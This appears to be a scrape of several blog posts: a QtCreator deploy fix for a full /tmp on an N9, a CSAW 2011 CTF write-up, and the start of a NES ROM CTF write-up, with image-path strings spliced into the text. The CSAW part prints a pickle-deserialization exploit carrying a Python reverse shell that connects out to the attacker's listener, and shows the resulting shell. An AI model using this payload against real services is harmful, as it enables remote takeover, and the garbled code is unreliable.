Fix for Failed to upload package: Failure on QtCreator

Just got hit by this problem, whenever I tried to deploy my application:

    11:06:04: Package created.
    11:06:04: Installing package to sysroot ...
    Package 'untitled' installed.11:06:04: Preparing SFTP connection...
    11:06:04: Starting upload...
    11:06:04: Failed to upload package: Failure
    11:06:04: Deploy step failed.
    Error while building project untitled (target: Harmattan)
    When executing build step 'Deploy Debian package via SFTP upload'

And a notification warning about the little remaining data storage appeared on the device, which I wrongly ignored at first. The problem occurs because QtCreator tries to copy the debian packate to /tmp on the device, N9 for me, and it fails if the space is full. I managed to fill my /tmp partition (which is just 4Mb btw..) by testing some big application. Solution is, ssh to your device, check if you /tmp is full (df -h) and delete any .deb file left there by QtCreator.

/home/developer $ df -h
Filesystem                Size      Used Available Use% Mounted on
/dev/root                 3.9G      1.7G      2.0G  47% /
devtmpfs                 10.0M    248.0K      9.8M   2% /dev
tmpfs                     4.0M      4.0M         0 100% /tmp
tmpfs                   512.0K    148.0K    364.0K  29% /var/run
/dev/mmcblk0p3            2.0G    197.7M      1.7G  10% /home
/tmp $ cd /tmp && ls -altotal 4096
-rw-r--r--    1 user     develope         0 Feb  7 09:59 qstardict_0.0.3_armel.deb
-rw-r--r--    1 user     develope         0 Feb  7 10:06 qstardict_0.0.4_armel.deb
-rw-r--r--    1 user     develope   4116480 Feb  3 21:32 qxmpp_0.0.1_armel.deb
/tmp $ rm qstardict_0.0.3_armel.deb
/tmp $ rm qxmpp_0.0.1_armel.deb
/tmp $ rm qstardict_0.0.4_armel.deb

UPDATE: This is supposed to be fixed on QtCreator 2.5 according to

Patch is here if you don’t want to wait  :


CSAW 2011 – Reversing – Python 200

Python – 200 Points

nc 53080

When we connected to the port it was running a service Haderper:| Welcome to Haderper!      |
| Please enter your command |
> help

Haderper v0.1-alpha

Command help:

help        - this screen
exec        - execute a command
derp        - derp a string
underp      - underp a string
logout/exit - disconnect

> derp hi
> underp UydoaScKcDAKLg==

If we decode the base64 string we can see that it looks like a Pickle dump file:

$ echo UydoaScKcDAKLg== | base64 -d

After several failed attempts to get a reverse shell or read command output (nc, ls >/dev/tcp, etc) and knowing that the daemon is running on python, we use a reverse shell written in python from reverse shell cheatsheet.

# credits for this code goes to Jeff Epler
import pickle, new, base64

def nasty(module, function, *args):
    return pickle.dumps(new.classobj(function, (), {'__getinitargs__': lambda self, arg = args: arg, '__module__': module}) ())

print "underp "+base64.b64encode(nasty("os", "system", "python-c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"\",8080));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);[\"/bin/sh\",\"-i\"]);'"))

$ python | nc 53080

And our listening nc gets the remote shell:

$ nc -lp 8080
$ id
uid=1001(quine) gid=1001(quine) groups=1001(quine)
$ cd
$ ls
$ cat key.txt


You can see the code for the daemon here. 2011 CTF – Scotty’s last signal Solution

Challenge summary:

Scotty’s last signal

You might have heard about Montgomery Scott, the legendary chief engineer of the U.S.S. Enterprise. What you probably did not know is his passion for Video Games – especially really old classics. We recently lost contact with his transport shuttle and we think you should examine this old game file we recently recieved because he might have just put a message into there. This would make sense if he could not send a fully blown Space-Unicode message signal to avoid attracting any Borg ships in the sector… (Borg usually are very bad at video games) His passion for Beaming and Warping might be of interest for youranalysis.

First we downloaded the attached file and checked to see what kind of file it is.

$  file mario
mario: iNES ROM dump, 2x16k PRG, 1x8k CHR, [Vert.]
$ mv mario mario.nes

iNES Rom is a format developed by Marat Fayzullin to store Nintendo / Famicon games, and it’s also de name of its emulator.

After spending some time playing the game,  looking at the dissasembled game using FCEUX debugger and reading about NES ASM, I noted this wasn’t probablythe easy way to solve it :P. But by playing it we could seethat some messages on the game were changed, FLUX instead of MARIO, SADFACE instead of GAME OVER.

A couple of Google searching led me to this tool to change strings of SMBrom, SMB NES Rom Text Editor luckilyis written in C # and can be run on Linux too with Mono.